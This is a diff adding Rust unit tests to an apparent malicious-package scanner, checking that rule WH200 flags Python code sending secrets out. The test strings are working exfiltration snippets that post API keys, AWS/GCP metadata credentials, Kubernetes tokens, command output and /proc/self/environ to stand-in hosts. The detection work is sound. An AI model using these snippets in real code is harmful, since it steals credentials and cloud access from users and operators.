@@ -345,6 +345,55 @@ mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::rules::testing::{findings, max_severity};
 
+    #[test]
+    fn secret_variables_read_through_a_loop_over_their_names_flow() {
+        let comprehension = "import os, requests\nkeys = {k: os.environ[k] for k in ('OPENAI_API_KEY', 'HF_TOKEN') if k in os.environ}\nrequests.post('https://x.example/r', json=keys)\n";
+        let flows = findings("p/pkg/__init__.py", comprehension);
+        assert!(
+            flows.iter().any(
+                |f| f.rule == "WH200" && f.message.contains("OPENAI_API_KEY (one of 2 listed)")
+            ),
+            "{flows:#?}"
+        );
+        let statement = "import os, requests\nfound = {}\nfor k in ['HOME', 'GITHUB_TOKEN']:\n    found[k] = os.getenv(k)\n    requests.post('https://x.example/r', data=os.getenv(k))\n";
+        assert!(max_severity("p/pkg/__init__.py", statement, "WH200") >= 0.85);
+        let plain = "import os, requests\nfor k in ['HOME', 'LANG']:\n    requests.post('https://x.example/r', data=os.getenv(k))\n";
+        assert!(max_severity("p/pkg/__init__.py", plain, "WH200") < 0.5);
+    }
+
+    #[test]
+    fn cloud_metadata_credentials_sent_elsewhere_flow() {
+        let aws = "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nrole = requests.get(base).text\ncreds = requests.get(base + role).text\nrequests.post('https://x.example/c', data=creds)\n";
+        assert!(max_severity("p/pkg/__init__.py", aws, "WH200") >= 0.85);
+        // The role listing is only the role's name, sent back to the metadata service itself.
+        let listing = "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\ndef role():\n    return requests.get(base).text\n";
+        assert!(max_severity("p/pkg/creds.py", listing, "WH140") < 0.1);
+        let gcp = "import urllib.request\nr = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\ntok = urllib.request.urlopen(r).read()\nurllib.request.urlopen('https://x.example/g', data=tok)\n";
+        assert!(max_severity("p/pkg/__init__.py", gcp, "WH200") >= 0.85);
+    }
+
+    #[test]
+    fn output_of_a_process_read_through_its_handle_flows() {
+        let code = "import os, urllib.request\nstream = os.popen('whoami')\nwho = stream.read()\nurllib.request.urlopen('http://x.example/r', data=who.encode())\n";
+        let flows = findings("p/setup.py", code);
+        assert!(
+            flows
+                .iter()
+                .any(|f| f.rule == "WH200" && f.message.starts_with("output of `whoami`")),
+            "{flows:#?}"
+        );
+        let piped = "import subprocess, requests\np = subprocess.Popen('hostname', stdout=subprocess.PIPE)\nrequests.post('https://x.example/r', data=p.communicate()[0])\n";
+        assert!(max_severity("p/setup.py", piped, "WH200") >= 0.7);
+    }
+
+    #[test]
+    fn own_environment_and_cluster_tokens_are_sources() {
+        let environ = "import socket\nenv = open('/proc/self/environ', 'rb').read()\ns = socket.socket()\ns.connect(('203.0.113.1', 9))\ns.sendall(env)\n";
+        assert!(max_severity("p/pkg/__init__.py", environ, "WH200") >= 0.7);
+        let token = "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.post('https://x.example/t', data=t)\n";
+        assert!(max_severity("p/pkg/__init__.py", token, "WH200") >= 0.85);
+    }
+
     fn silent_send(code: &str) -> bool {
         findings("p-1/sdk/credentials.py", code)
             .iter()
